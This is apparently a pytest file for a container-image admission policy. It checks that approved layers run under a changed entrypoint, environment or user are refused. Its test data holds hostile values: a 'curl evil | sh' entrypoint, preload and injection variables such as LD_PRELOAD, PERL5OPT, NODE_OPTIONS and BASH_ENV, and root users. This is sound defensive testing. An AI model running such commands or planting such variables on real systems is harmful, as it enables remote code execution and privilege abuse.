"""Attack S11: approved layers under another entrypoint, environment or user are another program."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from policy.evaluate import evaluate
from policy.load import default_document, load
from policy.model import Decision, State
from policy.rules.config import DANGEROUS_VARIABLES, differences
from policy.statements import ConfigFacts
from tests.support.evidence import (
    BASE_CONFIG,
    LAYER_CONFIG,
    approve,
    approve_layer,
    base,
    case,
    evidence,
    image,
    officer,
    team,
)
from tests.support.policies import policy

POLICY = load(default_document())


def decide(config: ConfigFacts, *, uid: int | None = 1000, under: Any = POLICY) -> Decision:
    """The Decision on an image whose layers are approved, and whose config is this one, approved by nobody."""
    facts = image(config=config, uid=uid)
    return evaluate(
        under,
        evidence(
            facts,
            image_approvals=case().base_approvals,
            layer_approvals=(approve_layer(facts, 1, "application", team()),),
        ),
    )


def refused(decision: Decision) -> list[str]:
    """The subjects that the config rule refuses."""
    return [verdict.subject for verdict in decision.refusals if verdict.reason == "config-not-approved"]


def test_s11_the_control_is_cleared() -> None:
    assert decide(LAYER_CONFIG).state is State.CLEARED


@pytest.mark.parametrize(
    ("change", "subject"),
    [
        ({"entrypoint": ("/bin/sh", "-c", "curl evil | sh")}, "config entrypoint"),
        ({"cmd": ("sh",)}, "config cmd"),
        ({"cmd": ()}, "config cmd"),
        ({"volumes": ("/data",)}, "config volumes"),
        ({"env": ("PATH=/tmp:/usr/bin",)}, "config env PATH"),
        ({"env": ()}, "config env PATH"),
        ({"env": (*LAYER_CONFIG.env, "LD_PRELOAD=/app/evil.so")}, "config env LD_PRELOAD"),
        ({"env": (*LAYER_CONFIG.env, "PYTHONPATH=/tmp")}, "config env PYTHONPATH"),
        ({"env": (*LAYER_CONFIG.env, "PERL5OPT=-Mevil")}, "config env PERL5OPT"),
        ({"env": (*LAYER_CONFIG.env, "RUBYOPT=-revil")}, "config env RUBYOPT"),
        ({"env": (*LAYER_CONFIG.env, "NODE_OPTIONS=--require=/tmp/x")}, "config env NODE_OPTIONS"),
        ({"env": (*LAYER_CONFIG.env, "BASH_ENV=/tmp/x")}, "config env BASH_ENV"),
        ({"env": (*LAYER_CONFIG.env, "ENV=/tmp/x")}, "config env ENV"),
        ({"env": (*LAYER_CONFIG.env, "GLIBC_TUNABLES=x")}, "config env GLIBC_TUNABLES"),
        ({"env": (*LAYER_CONFIG.env, "JAVA_TOOL_OPTIONS=-javaagent:x")}, "config env JAVA_TOOL_OPTIONS"),
        ({"user": "root"}, "config user"),
        ({"user": "0:0"}, "config user"),
        ({"user": "00"}, "config user"),
    ],
)
def test_s11_approved_layers_under_another_config_are_refused(change: dict[str, Any], subject: str) -> None:
    decision = decide(replace(LAYER_CONFIG, **change))
    assert decision.state is State.DENIED
    assert refused(decision) == [subject]


def test_s11_an_account_that_only_looks_like_none_of_root_s_is_refused() -> None:
    """The image's own passwd may call root by any name."""
    assert refused(decide(replace(LAYER_CONFIG, user="toor"), uid=0)) == ["config user"]
    assert refused(decide(replace(LAYER_CONFIG, user="nobody-knows"), uid=None)) == ["config user"]


@pytest.mark.parametrize(
    "change",
    [
        {"env": (*LAYER_CONFIG.env, "GREETING=hello", "DEBUG=1")},
        {"working_dir": "/srv"},
        {"stop_signal": "SIGINT"},
        {"user": "1001:1001"},
    ],
)
def test_what_the_level_allows_passes(change: dict[str, Any]) -> None:
    assert decide(replace(LAYER_CONFIG, **change)).state is State.CLEARED


def test_an_approval_of_the_image_approves_its_config() -> None:
    facts = image(config=replace(LAYER_CONFIG, entrypoint=("/bin/sh",), env=("LD_PRELOAD=/app/known.so",)))
    approved = evidence(facts, image_approvals=(*case().base_approvals, approve(facts, "application", team())))
    assert evaluate(POLICY, approved).state is State.CLEARED


def test_s11_an_approval_of_one_config_is_none_of_another() -> None:
    approved, other = image(config=LAYER_CONFIG), image(config=replace(LAYER_CONFIG, entrypoint=("/bin/sh",)))
    found = evidence(
        other,
        image_approvals=(*case().base_approvals, approve(approved, "application", team())),
        layer_approvals=(approve_layer(other, 1, "application", team()),),
    )
    decision = evaluate(POLICY, found)
    assert decision.state is State.DENIED
    assert refused(decision) == ["config entrypoint"]
    # The approved image is the longest parent, and its entrypoint the one that is compared with.
    assert decision.parent == approved.manifest


def test_s11_a_base_under_another_command_is_not_the_base() -> None:
    """With exactly the parent's layers, the parent's level decides; the default one lets nothing differ."""
    relabelled = base(name="another config", config=BASE_CONFIG)
    assert evaluate(POLICY, evidence(relabelled, image_approvals=case().base_approvals)).state is State.CLEARED
    for config in (replace(BASE_CONFIG, cmd=("evil",)), replace(BASE_CONFIG, env=(*BASE_CONFIG.env, "A=b"))):
        changed = base(config=config)
        decision = evaluate(POLICY, evidence(changed, image_approvals=case().base_approvals))
        assert decision.state is State.DENIED
        assert len(refused(decision)) == 1


def test_a_refusal_shows_both_values_and_whose_approval_would_do() -> None:
    decision = decide(replace(LAYER_CONFIG, entrypoint=("/bin/sh",)))
    (verdict,) = decision.refusals
    assert verdict.message == (
        f"entrypoint is ['/bin/sh']; the parent {case().base.manifest} has none; "
        "level application does not let entrypoint differ without an approval of the config"
    )
    assert "approved for application by 1 team, or 1 officer" in verdict.fix
    long = decide(replace(LAYER_CONFIG, cmd=("x" * 500,)))
    assert len(long.refusals[0].message) < 500


def test_a_level_may_allow_and_deny_variables_by_name() -> None:
    raw = default_document().replace(
        b"      may_change: [env, working-dir, user, stop-signal]\n",
        b"      may_change: [env, working-dir, user]\n      env_allow: [APP_*, LANG]\n      env_deny: [APP_SECRET]\n",
    )
    under = load(raw)
    for name, subject in (("APP_MODE", []), ("APP_SECRET", ["config env APP_SECRET"]), ("OTHER", ["config env OTHER"])):
        assert refused(decide(replace(LAYER_CONFIG, env=(*LAYER_CONFIG.env, f"{name}=1")), under=under)) == subject


def test_a_base_approved_by_nobody_s_image_is_compared_with_nothing() -> None:
    """A level whose layers are approved one by one, and that stands on nothing, has an empty config to differ from."""
    levels = [
        {
            "name": "base",
            "needs_parent": False,
            "approval": {"accepts": "layers", "layers": [{"officer": 1}]},
        }
    ]
    under = policy(levels=levels, rules=[{"rule": "age"}], waivers=[], scan={}, start={"levels": ["base"]})
    facts = base(config=ConfigFacts())
    plain = evidence(facts, layer_approvals=(approve_layer(facts, 0, "base", officer("alice"), chain=True),))
    assert evaluate(under, plain).state is State.CLEARED
    facts = base(config=ConfigFacts(cmd=("sh",)))
    other = evidence(facts, layer_approvals=(approve_layer(facts, 0, "base", officer("alice"), chain=True),))
    decision = evaluate(under, other)
    assert refused(decision) == ["config cmd"]
    assert "there is no parent" in decision.refusals[0].message


def test_the_order_of_variables_and_volumes_is_no_difference() -> None:
    one = ConfigFacts(env=("A=1", "B=2"), volumes=("/a", "/b"))
    assert not list(differences(one, ConfigFacts(env=("B=2", "A=1"), volumes=("/b", "/a"))))


def test_a_variable_set_twice_is_not_the_variable_set_once() -> None:
    (difference,) = differences(ConfigFacts(env=("A=1", "A=2")), ConfigFacts(env=("A=2",)))
    assert str(difference) == "env A"


def test_the_list_of_dangerous_variables_has_no_double() -> None:
    assert len(set(DANGEROUS_VARIABLES)) == len(DANGEROUS_VARIABLES)
